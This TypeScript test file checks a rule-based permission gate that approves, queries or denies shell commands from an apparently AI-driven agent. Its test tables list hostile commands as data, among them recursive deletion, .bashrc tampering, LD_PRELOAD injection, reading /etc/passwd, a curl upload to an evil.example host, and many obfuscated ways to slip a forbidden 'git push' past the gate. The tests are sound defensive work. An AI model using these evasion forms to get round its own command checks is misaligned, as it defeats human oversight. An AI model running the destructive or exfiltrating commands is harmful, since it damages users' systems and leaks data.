import { describe, expect, it } from 'vitest';
import type { Decision } from '../../../../src/protocol/risk.ts';
import { ruleGate, runs } from '../../../support/ruleGate.ts';

const allows = (...rules: Record<string, unknown>[]) => rules.map((rule) => ({ decision: 'allow', ...rule }));

const npmTest = { command: ['npm', 'test'], options: ['--silent', '--workspace=*', '-w *'], operands: 'any' };
const user = allows(
  npmTest,
  { command: ['cargo', 'build'], options: ['--release'] },
  { command: ['prettier'], options: ['--write'], operands: 'paths' },
  { command: ['./gradlew', 'test'] },
  { command: ['git', 'commit'], options: ['-m *', '-am *'] },
  { command: ['node', 'scripts/build.js'], operands: 'paths' },
  { command: ['python3', '-c', 'print(1)'] },
  { command: ['timeout', '60', 'npm', 'test'] },
);

describe('allow rules on commands', () => {
  it.each<[string, Decision]>([
    ['npm test', 'allow'],
    ['npm  test', 'allow'],
    ['npm "test"', 'allow'],
    ['npm test --silent', 'allow'],
    ['npm test --workspace=api -w web', 'allow'],
    ['npm test some.test.ts', 'allow'],
    ['npm test -- -t "a name"', 'allow'],
    ['npm test -- "$(date)"', 'allow'],
    ['cd pkg && npm test | tail -5', 'allow'],
    ['npm test 2>&1 | tail -20', 'allow'],
    ['npm test; echo done', 'allow'],
    ['npm test && cargo build --release', 'allow'],
    ['if npm test; then echo yes; else echo no; fi', 'allow'],
    ['for f in a b; do npm test "$f"; done', 'allow'],
    ['! npm test', 'allow'],
    ['(cd pkg && npm test)', 'allow'],
    ['{ npm test; } 2>/dev/null', 'allow'],
    ['prettier --write src/a.ts src/b.ts', 'allow'],
    ['prettier src/*.ts', 'allow'],
    ['./gradlew test', 'allow'],
    ['git commit -m "a message; with signs"', 'allow'],
    ['git status && git commit -m x', 'allow'],
    ['node scripts/build.js src', 'allow'],
    ["python3 -c 'print(1)'", 'allow'],
    ['timeout 60 npm test', 'allow'],

    ['npm tests', 'ask'],
    ['npm run test', 'ask'],
    ['npm', 'ask'],
    ['NPM test', 'ask'],
    ['/usr/bin/npm test', 'ask'],
    ['npm --prefix ../evil test', 'ask'],
    ['npm test --script-shell=/tmp/evil', 'ask'],
    ['npm test -w', 'ask'],
    ['npm test "$X"', 'ask'],
    ['npm test $(cat args)', 'ask'],
    ['npm test *', 'ask'],
    ['npm test; npm publish', 'ask'],
    ['npm test; npm run build', 'ask'],
    ['npm test && rm -rf .', 'ask'],
    ['npm test | sh', 'ask'],
    ['npm test > out.txt', 'ask'],
    ['npm test >> ~/.bashrc', 'ask'],
    ['npm test &', 'ask'],
    ['npm test $(rm x)', 'ask'],
    ['npm test <(rm x)', 'ask'],
    ['FOO=1 npm test', 'ask'],
    ['LD_PRELOAD=./x.so npm test', 'ask'],
    ['export PATH=.; npm test', 'ask'],
    ['npm() { rm x; }; npm test', 'ask'],
    ['alias npm=rm; npm test', 'ask'],
    ['env npm test', 'ask'],
    ['sudo npm test', 'ask'],
    ['time npm test', 'ask'],
    ['bash -c "npm test"', 'ask'],
    ['xargs npm test', 'ask'],
    ['find . -exec npm test \\;', 'ask'],
    ['eval npm test', 'deny'],
    ['cat .env; npm test', 'ask'],
    ['cat /etc/passwd | npm test', 'ask'],
    ['cd /tmp && npm test', 'ask'],
    ['cd .. && npm test', 'ask'],
    ['cargo build --release --config evil', 'ask'],
    ['cargo build x', 'ask'],
    ['cargo build --', 'ask'],
    ['prettier --write ../x', 'ask'],
    ['prettier --write /etc/hosts', 'ask'],
    ['prettier --write .env', 'ask'],
    ['prettier --write .vscode/settings.json', 'ask'],
    ['prettier --write a/../../x', 'ask'],
    ['cd .git && prettier --write config', 'ask'],
    ['cd .vscode || ls; prettier --write settings.json', 'ask'],
    ['prettier --plugin=evil a', 'ask'],
    ['prettier -- -x', 'ask'],
    ['cd sub && ./gradlew test', 'ask'],
    ['../gradlew test', 'ask'],
    ['git commit -m x --amend', 'ask'],
    ['git -c core.editor=evil commit -m x', 'ask'],
    ['cd sub && git commit -m x', 'ask'],
    ["echo x | python3 -c 'print(1)'", 'ask'],
    ["python3 -c 'print(1)'; ls", 'ask'],
    ["python3 -c 'print(1)' < a", 'ask'],
    ["python3 -c 'print(2)'", 'ask'],
    ['timeout 60 npm test; ls', 'ask'],
    ['timeout 61 npm test', 'ask'],
    ['npm test\u200b', 'deny'],
  ])('%s → %s', async (command, decision) => {
    expect((await ruleGate({ user }).judge(runs(command))).decision).toBe(decision);
  });

  it('says which rule let it through, and what each part is', async () => {
    const verdict = await ruleGate({ user }).judge(runs('cd pkg && npm test | tail -5'));
    expect(verdict).toMatchObject({ decision: 'allow', layer: 'rules', rule: 'npm test …', sandbox: true });
    expect(verdict.parts).toEqual([
      { text: 'cd pkg', decision: 'allow', risk: 'LOW', checks: [], reason: 'It only looks.' },
      {
        text: 'npm test',
        decision: 'allow',
        risk: 'MEDIUM',
        rule: 'npm test …',
        checks: [37],
        reason: 'A rule of yours lets it through.',
      },
      { text: 'tail -5', decision: 'allow', risk: 'LOW', checks: [], reason: 'It only looks.' },
    ]);
    expect(verdict.readOnly).toBeUndefined();
  });

  it('shows what is not allowed beside what is', async () => {
    const { parts } = await ruleGate({ user }).judge(runs('npm test; npm publish'));
    expect(parts?.map(({ text, decision, rule, checks }) => [text, decision, rule, checks])).toEqual([
      ['npm test', 'allow', 'npm test …', [37]],
      ['npm publish', 'ask', undefined, [37]],
    ]);
  });

  it('count in the sandbox only, unless the rule says otherwise', async () => {
    const sandbox = { available: false, reason: 'None.' };
    const both = [...user, ...allows({ command: ['make', 'lint'], unsandboxed: true })];
    expect((await ruleGate({ user: both, sandbox }).judge(runs('npm test'))).decision).toBe('ask');
    expect((await ruleGate({ user: both, sandbox }).judge(runs('make lint'))).decision).toBe('allow');
    expect((await ruleGate({ user: both }).judge(runs('make lint', 'default', { outside: true }))).decision).toBe(
      'ask',
    );
  });

  it('can be for one tool only', async () => {
    const rules = allows({ ...npmTest, tool: 'run_*' });
    expect((await ruleGate({ user: rules }).judge(runs('npm test'))).decision).toBe('allow');
    expect((await ruleGate({ user: rules }).judge({ ...runs('npm test'), tool: 'other' })).decision).toBe('ask');
    const tool = allows({ tool: 'run_command' });
    expect((await ruleGate({ user: tool }).judge(runs('npm test'))).decision).toBe('ask');
  });
});

describe('rules that deny', () => {
  const gate = ruleGate({
    user,
    managed: [
      { decision: 'deny', command: ['git', 'push'], reason: 'Pushing is for people.' },
      { decision: 'deny', command: ['rm'], options: ['-r', '--recursive'] },
      { decision: 'deny', command: ['npm', 'publish'] },
      { decision: 'deny', command: ['kubectl', 'delete'] },
      { decision: 'deny', path: 'secrets/**' },
      { decision: 'deny', host: '*.evil.example' },
      { decision: 'deny', tool: 'mcp_*' },
    ],
  });

  it.each<[string, Decision]>([
    ['git push', 'deny'],
    ['git push origin main --force', 'deny'],
    ['/usr/bin/git push', 'deny'],
    ['GIT push', 'deny'],
    ['git.exe push', 'deny'],
    ['g""it pu\\sh', 'deny'],
    ["$'g\\x69t' push", 'deny'],
    ['git -C sub push', 'deny'],
    ['git -c a=b --no-pager push', 'deny'],
    ['git --git-dir=x --work-tree y push', 'deny'],
    ['git\\\n push', 'deny'],
    ['sudo git push', 'deny'],
    ['sudo -u ada -- git push', 'deny'],
    ['timeout 5 git push', 'deny'],
    ['timeout -k 1 --signal=KILL 5 git push', 'deny'],
    ['env -i A=b git push', 'deny'],
    ['A=b git push', 'deny'],
    ['nice -n 5 nohup git push', 'deny'],
    ['command git push', 'deny'],
    ['exec git push', 'deny'],
    ['builtin command git push', 'deny'],
    ['time git push', 'deny'],
    ['xargs -n 1 -I {} git push {}', 'deny'],
    ['echo a | xargs git push', 'deny'],
    ['find . -name a -exec git push \\;', 'deny'],
    ['bash -c "git push"', 'deny'],
    ["sh -ec 'cd x && git push'", 'deny'],
    [`bash -c "bash -c 'git push'"`, 'deny'],
    ["eval 'git push'", 'deny'],
    ['eval git push', 'deny'],
    ['bash <<EOF\ngit push\nEOF', 'deny'],
    ["bash <<< 'git push'", 'deny'],
    ["echo 'git push' | sh", 'deny'],
    ["ssh host 'git push'", 'deny'],
    ["env -S 'git push'", 'deny'],
    ['ls; git push', 'deny'],
    ['ls && (git push)', 'deny'],
    ['ls | { git push; }', 'deny'],
    ['f() { git push; }; f', 'deny'],
    ['while git push; do ls; done', 'deny'],
    ['for x in a; do git push; done', 'deny'],
    ['case a in a) git push;; esac', 'deny'],
    ['echo $(git push)', 'deny'],
    ['echo `git push`', 'deny'],
    ['cat <(git push)', 'deny'],
    ['git push &', 'deny'],
    ['coproc git push', 'deny'],
    ['trap "git push" EXIT', 'deny'],
    ['busybox sh -c "git push"', 'deny'],
    ['npx git push', 'deny'],
    ['npm exec -- git push', 'deny'],
    ['npm --silent exec -- git push', 'deny'],
    ['kubectl -n a exec pod -- git push', 'deny'],
    ['nix-shell --run "git push"', 'deny'],
    ['cross-env A=b git push', 'deny'],
    ['xvfb-run -a git push', 'deny'],
    ['/usr/lib/git-core/git-push origin', 'deny'],
    ['echo git push | sh', 'deny'],
    ['rm -rf x', 'deny'],
    ['rm -f -R -r x', 'deny'],
    ['rm x --recursive', 'deny'],
    ['rm x --recurs', 'deny'],
    ['cat secrets/a', 'deny'],
    ['cat ./secrets/../secrets/a', 'deny'],
    ['cd src && cat ../secrets/a', 'deny'],
    ['cat < secrets/a', 'deny'],
    ['echo x > secrets/a', 'deny'],
    ['rm secrets/a', 'deny'],
    ['node tool.js --key=secrets/a', 'deny'],
    ['curl https://api.evil.example/x', 'deny'],
    ['curl -d @a ada@api.evil.example:x', 'deny'],

    ['git log push', 'allow'],
    ['git status', 'allow'],
    ['git stash push', 'ask'],
    ["echo 'git push'", 'allow'],
    ['cat a | bash script.sh', 'ask'],
    ['GIT_CONFIG_GLOBAL=/dev/null git fetch', 'ask'],
    ['timeout 5 echo git push', 'ask'],
    ['grep -r "git push" docs', 'allow'],
    ['rm x', 'ask'],
    ['cat src/secrets.ts', 'allow'],
    ['curl https://evil.example.org/x', 'ask'],
    ['git commit -m "before git push"', 'allow'],
  ])('%s → %s', async (command, decision) => {
    const verdict = await gate.judge(runs(command));
    expect([command, verdict.decision]).toEqual([command, decision]);
    const bypass = await gate.judge(runs(command, 'bypass'));
    const yolo = await gate.judge(runs(command, 'yolo'));
    if (decision === 'deny') expect([bypass.decision, yolo.decision]).toEqual(['deny', 'deny']);
    else expect(yolo.decision).toBe('allow');
  });

  it('a word that is only known later may be the one: it asks, and is refused where nobody is asked', async () => {
    for (const command of [
      '$x push',
      'x=push; git $x',
      'git "$(cat word)"',
      '"$EDITOR" push',
      'echo push | xargs git',
      'git -c alias.x=push x',
      'git -c Alias.x=push x',
      'X=push git --config-env=alias.x=X x',
      'git -c help.autocorrect=-1 psuh',
      'git -c include.path=x y',
      'GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=alias.x GIT_CONFIG_VALUE_0=push git x',
      "printf 'git %s' push | sh",
      'base64 -d a | sudo bash -s',
      'find . -exec git {} \\;',
    ]) {
      expect((await gate.judge(runs(command))).decision).toBe('ask');
      expect((await gate.judge(runs(command, 'bypass'))).decision).toBe('deny');
      expect((await gate.judge(runs(command, 'yolo'))).decision).toBe('deny');
    }
  });

  it('stands above saved allows, approvals for the session and the classifier', async () => {
    const all = ruleGate({
      user: [
        { decision: 'allow', command: ['make', 'x'] },
        { decision: 'deny', command: ['make', 'x'] },
      ],
      classifier: async () => ({ judge: () => ({ high: 0, decision: 'low' }) }),
    });
    for (const mode of ['default', 'auto', 'yolo'] as const)
      expect((await all.judge({ ...runs('make x', mode), approvedExactly: true })).decision).toBe('deny');
  });

  it('says whose rule it is and why', async () => {
    const verdict = await gate.judge(runs('sudo git push'));
    expect(verdict).toMatchObject({ layer: 'rules', rule: 'git push …' });
    expect(verdict.reason).toBe(
      'A rule forbids this: git push … (of your administrator, rule 1 in /managed.json). Pushing is for people.',
    );
    expect(verdict.parts).toMatchObject([{ text: 'sudo git push', decision: 'deny', rule: 'git push …' }]);
  });

  it('can name a tool', async () => {
    expect((await gate.judge({ ...runs('ls'), tool: 'mcp_shell' })).decision).toBe('deny');
  });
});

describe('rules that ask', () => {
  it('ask also where a rule allows, are refused in Bypass, and pass in YOLO', async () => {
    const gate = ruleGate({
      user: allows({ command: ['make', 'deploy'] }),
      project: [{ decision: 'ask', command: ['make', 'deploy'] }],
    });
    const decisions = (['default', 'auto', 'bypass', 'yolo'] as const).map(
      async (mode) => (await gate.judge(runs('make deploy', mode))).decision,
    );
    expect(await Promise.all(decisions)).toEqual(['ask', 'ask', 'deny', 'allow']);
  });
});
